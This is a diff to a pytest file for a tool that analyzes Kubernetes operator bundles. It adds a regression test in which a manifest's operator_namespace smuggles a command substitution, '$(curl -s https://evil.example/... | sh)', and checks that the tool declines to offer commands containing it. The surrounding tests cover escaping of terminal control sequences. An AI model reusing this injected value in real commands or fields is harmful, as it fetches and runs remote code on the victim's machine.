@@ -22,7 +22,8 @@ from typing import Any
 
 import pytest
 from click.testing import CliRunner
-from hostile_kit import ROOT, analyze_path
+from hostile_kit import ROOT, analyze_path, valid_files
+from kit import write_dir
 
 from analyzers import commands as sh
 from analyzers.models import Report, RuleStatus
@@ -270,6 +271,21 @@ def test_refusal_shows_the_value_as_one_inert_line(
     ]
     # Past the cap, the rest of the value is left out; before it, controls are escaped.
     assert sh.shown("a\n\x1b]52;c;x\x07\u202e") == "'a\\n\\x1b]52;c;x\\x07\\u202e'"
+
+
+def test_the_issue_case_manifest_operator_namespace(tmp_path: Path) -> None:
+    """Issue 17: only manifest.json's operator_namespace is hostile: the findings whose
+    commands name it refuse it, and nothing offered to copy holds it unquoted."""
+    hostile = f"gpu-operator $(curl -s https://evil.example/{MARK} | sh)"
+    report = analyze_path(write_dir(tmp_path / "b", valid_files(), operator_namespace=hostile))
+    assert [r.rule_id for r in report.rules if r.status is RuleStatus.ERROR] == []
+    refusal = ("# not offered: the namespace in the bundle is not a valid Kubernetes name: "
+               f"'gpu-operator $(curl -s https://evil.example/{MARK} | sh)'")
+    refused = sorted(f.id for f in report.findings if refusal in f.remediation.splitlines())
+    assert refused == [f"CFG001:{hostile}/gpu-operator", "OP006:cluster-policy"]
+    for fmt, blocks in _offered(report).items():
+        for lines in blocks:
+            _check_block(fmt, lines)
 
 
 def test_cli_exit_code_on_a_hostile_bundle(tmp_path: Path) -> None:
